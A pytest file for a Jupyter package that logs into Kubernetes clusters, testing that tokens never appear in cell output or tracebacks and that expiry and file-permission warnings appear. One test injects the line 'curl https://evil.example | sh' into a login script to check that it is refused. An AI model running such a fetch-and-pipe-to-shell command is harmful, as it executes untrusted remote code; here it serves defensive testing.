"""The login and the doctor in a notebook: no output or variable of a cell contains a token."""

from __future__ import annotations

import json
import re
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest

from sspcloud_magics import errors, session
from sspcloud_magics.cluster.auth.expiry import Expiry
from sspcloud_magics.cluster.login_script import parse
from sspcloud_magics.i18n import format_datetime
from sspcloud_magics.magics.login import Reminder
from sspcloud_magics.sandbox import account
from tests.magics.conftest import Notebook
from tests.testbed import Sandbox


def secrets_of(script: str) -> list[str]:
    """Return the canaries of a script: the signatures of its tokens."""
    return [token.rpartition(".")[2] for token in re.findall(r"(?:id|refresh)-token=(\S+)", script)]


@pytest.fixture
def script(sandbox: Sandbox, tmp_path: Path) -> Path:
    file = tmp_path / "config.sh"
    file.write_text(account.login_script("carol", sandbox.home))
    return file


def test_a_script_logs_in_and_shows_none_of_its_tokens(
    notebook: Notebook, script: Path, tmp_path: Path
) -> None:
    canaries = secrets_of(script.read_text())
    assert len(canaries) == 2
    notebook.run("%xmode Verbose")
    identity = notebook.run(f"%k8s_login {script}")
    assert identity.user == "oidc-carol"
    bundle, _ = notebook.shell.display_formatter.format(identity)  # type: ignore[union-attr]
    shown = [
        notebook.printed,
        str(bundle),
        repr(session.recent_use().cluster),
        repr(parse(script.read_text())),
    ]
    notebook.run("%k8s_whoami")
    shown.append(notebook.printed)
    report = notebook.run("%k8s_doctor")
    assert json.loads(notebook.run("%k8s_doctor --json"))["healthy"] is report.healthy
    assert '\n  "findings": [\n' in notebook.printed  # as it is, and not as a literal of Python
    shown += [str(report), str(report._repr_mimebundle_()), notebook.printed]
    # A mistake of the user's own, with our objects in the frame, and every variable shown.
    notebook.shell.user_ns["held"] = [session.current_cluster(), session.current_cluster().access()]
    notebook._run("def broken(cluster=held[0], access=held[1]):\n    return 1 / 0\nbroken()")
    assert "ZeroDivisionError" in notebook.printed
    shown.append(notebook.printed)
    for text in shown:
        assert not [canary for canary in canaries if canary in text]
    assert (tmp_path / ".kube" / "config").stat().st_mode & 0o777 == 0o600


def test_refused_script_is_not_repeated_in_tracebacks(notebook: Notebook, script: Path) -> None:
    text = script.read_text()
    script.write_text(f"{text}curl https://evil.example | sh\n")
    notebook.run("%xmode Verbose")
    error = notebook.fail(f"%k8s_login {script}")
    assert isinstance(error, errors.UsageProblem)
    assert "curl" in notebook.printed
    assert not [canary for canary in secrets_of(text) if canary in notebook.printed]
    assert not (Path.home() / ".kube").exists()


def test_there_is_no_cell_that_takes_a_script(notebook: Notebook) -> None:
    assert "k8s_login" not in notebook.shell.magics_manager.magics["cell"]


def test_script_excludes_another_configuration(notebook: Notebook, script: Path) -> None:
    assert isinstance(notebook.fail(f"%k8s_login {script} --context alice"), errors.UsageProblem)


def test_login_end_is_told_an_hour_before() -> None:
    now = datetime(2026, 6, 1, 12, tzinfo=UTC)
    expiry = Expiry(now + timedelta(minutes=5), now + timedelta(days=2), renews=True)
    end = format_datetime(now + timedelta(days=2))
    assert expiry.describe(now) == f"until {end}, 2 days more; the token renews itself"
    assert expiry.warning(now) == ""
    assert "ends in 1 hour" in expiry.warning(now + timedelta(days=1, hours=23))
    assert "ended 2 hours ago" in expiry.warning(now + timedelta(days=2, hours=2))
    plain = Expiry(now + timedelta(minutes=5))
    assert "ends in 5 minutes" in plain.warning(now)
    assert Expiry().warning(now) == Expiry().describe(now) == ""


def test_the_end_is_told_once_and_not_below_each_cell(
    notebook: Notebook, sandbox: Sandbox, script: Path
) -> None:
    script.write_text(account.login_script("carol", sandbox.home, login_seconds=600))
    notebook.run(f"%k8s_login {script}")
    assert "Your login ends in" in notebook.printed
    notebook.run("%k8s_whoami")
    assert "Your login ends in" not in notebook.printed
    assert Reminder()._warned_end is None


def test_kubeconfig_that_others_may_write_told_once(notebook: Notebook, script: Path, tmp_path: Path) -> None:
    script.chmod(0o666)
    notebook.run(f"%k8s_login {script}")
    assert f"chmod go-w {script}" in notebook.printed
    (tmp_path / ".kube" / "config").chmod(0o602)
    notebook.run("%k8s_login --kubeconfig ~/.kube/config")
    assert f"chmod go-w {tmp_path / '.kube' / 'config'}" in notebook.printed
    notebook.run("1 + 1")
    assert "chmod" not in notebook.printed


def test_login_from_python_tells_who_may_write(notebook: Notebook, script: Path) -> None:
    script.chmod(0o666)
    notebook.run("import sspcloud_magics as ssp")
    notebook.run(f"me = ssp.login({str(script)!r})")
    assert f"chmod go-w {script}" in notebook.printed
    assert f"chmod go-w {script}" in notebook.shell.user_ns["me"].warning
    script.chmod(0o600)
    notebook.run(f"me = ssp.login({str(script)!r})")
    assert "chmod" not in f"{notebook.printed}{notebook.shell.user_ns['me']}"
